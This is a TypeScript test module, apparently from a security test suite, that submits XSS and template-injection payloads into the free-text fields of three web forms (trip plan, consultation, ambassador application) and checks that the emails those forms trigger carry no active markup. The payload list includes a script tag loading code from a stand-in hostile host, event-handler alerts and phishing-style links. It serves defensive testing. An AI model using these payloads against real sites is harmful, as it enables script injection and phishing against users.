import type { AttackCase, Family } from '../attack-case.js'
import { formEndpoints, sendForm, type FormResult, type FormName } from '../forms.js'
import { activeMarkupIn, hostileHost } from '../mails.js'

const payloads = [
  `<script src="https://${hostileHost}/x.js"></script>`,
  `<img src=x onerror="alert(1)">`,
  `"><svg/onload=alert(1)>`,
  `<a href="https://${hostileHost}/">click</a>`,
  `[click](https://${hostileHost}/) https://${hostileHost}/`,
  '{{constructor.constructor("alert(1)")()}}${7*7}<%= 7*7 %>',
]

const fields: readonly (readonly [FormName, string])[] = [
  ...['fullName', 'companionName', 'companionTravelNeeds', 'tripDuration', 'insuranceCoverage', 'paymentMethod'].map(
    (field) => ['trip plan', field] as const,
  ),
  ...['emergencyContactName', 'travelingFromCity', 'medicalProcedure'].map((field) => ['trip plan', field] as const),
  ['trip plan', 'otherAccommodationType'],
  ...['fullName', 'message'].map((field) => ['consultation', field] as const),
  ...['fullName', 'additionalNotes', 'nationalId'].map((field) => ['ambassador application', field] as const),
  ['consultation', 'phoneNumber'],
  ['ambassador application', 'phoneNumber'],
]

/** Mails that a form causes: to the person and to the team. */
const mailsPerForm = 2

/** Markup in every free-text field; accepted text is checked in the mails it caused. */
export const markup: Family = {
  name: 'markup in forms',
  replays: 'markup in every free text of 3 forms',
  atOnce: 6,
  cases: () => fields.map(([form, field], i) => asCase(form, field, payloads[i % payloads.length] ?? '')),
}

function asCase(form: FormName, field: string, payload: string): AttackCase<FormResult> {
  return {
    name: `${payload.slice(0, 30)} in ${field} of a ${form}`,
    send: (target) =>
      sendForm(target, form, {
        [field]: payload,
        ...(field.startsWith('other') ? { accommodationType: 'Other', hotelPreference: undefined } : {}),
      }),
    deadlineMs: 40_000,
    holds: async ({ type, reference = '', response }, target) => {
      if (type === 'InvalidInput') return true
      if (type !== formEndpoints[form].success) return `it was answered ${type} (${response.status})`
      const errors = (await target.mailsAbout(reference, mailsPerForm)).flatMap(activeMarkupIn)
      return errors.length === 0 || errors.join('; ')
    },
  }
}
